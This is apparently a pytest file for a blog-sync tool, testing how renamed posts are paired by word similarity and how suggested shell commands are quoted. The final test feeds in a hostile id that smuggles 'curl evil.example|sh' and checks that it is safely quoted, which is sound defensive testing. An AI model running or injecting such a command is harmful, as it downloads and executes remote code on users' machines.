"""The text half of the rename hint: which new and gone posts are compared, and how."""

from __future__ import annotations

from threadsync.diff import make_plan
from threadsync.plan_hints import rename_notices, similar_pairs, unpaired
from threadsync.state import State

from .test_plan import NOW, P, published

BASE = "text: We launch the new site today with a faster editor and dark mode for everyone"


def test_only_posts_the_file_stem_left_unpaired_are_compared() -> None:
    state = State(
        posts={"news/launch": published(h="1"), "news/old": published(h="2"), "kept": published()}
    )
    plan = make_plan(
        [P("blog/launch", "3"), P("blog/new", "4"), P("kept"), P("later", "5", publish_at=NOW)],
        state,
        NOW,
    )
    assert unpaired(plan.changes, state) == (["blog/new", "later"], ["news/old"])


def test_nearly_the_same_words_pair_and_other_words_do_not() -> None:
    old = {"news/launch": BASE, "news/sale": "text: Our spring sale starts on Monday at nine"}
    edited = BASE.replace("launch", "launched").replace("everyone", "all")
    assert similar_pairs(old, {"blog/a": edited, "blog/b": "text: Something else entirely"}) == {
        "blog/a": "news/launch"
    }
    # Three words of four in common is 0.75: a pair; half of them is not.
    assert similar_pairs({"o": "a b c d"}, {"n": "a b c x"}) == {"n": "o"}
    assert similar_pairs({"o": "a b c d"}, {"n": "a b x y"}) == {}


def test_each_post_is_paired_once_best_match_first() -> None:
    close = BASE.replace("dark", "light")
    closer = BASE + " now"
    pairs = similar_pairs({"old": BASE}, {"x/close": close, "y/closer": closer})
    assert pairs == {"y/closer": "old"}  # the better match wins, though it sorts later
    two_old = {"a": BASE, "b": BASE.replace("today", "tonight")}
    assert similar_pairs(two_old, {"n1": BASE, "n2": BASE}) == {"n1": "a", "n2": "b"}


def test_past_the_deadline_no_more_pairs_are_compared() -> None:
    """Both sides can come from a pull request: the comparison stops at its deadline."""
    old = {"old0": "one two three four", "old1": "five six seven eight", "old2": "a b c d"}
    new = {"new": "a b c d"}
    assert similar_pairs(old, new) == {"new": "old2"}
    ticks = iter([0.0, 0.5, 2.0])  # old0 at 0.0, old1 at 0.5, then past the deadline
    assert similar_pairs(old, new, deadline=1.0, clock=lambda: next(ticks)) == {}


def test_the_commands_a_hint_suggests_quote_the_ids_a_state_file_can_hold() -> None:
    """A state entry (a pull request can edit the state) may have any id: the suggested
    command stays one harmless command when pasted into a shell."""
    (notice,) = rename_notices({"blog/new": "x; curl evil.example|sh"})
    assert "threadsync state mv 'x; curl evil.example|sh' blog/new" in notice.message
    (plain,) = rename_notices({"blog/new": "news/launch"})
    assert "threadsync state mv news/launch blog/new" in plain.message
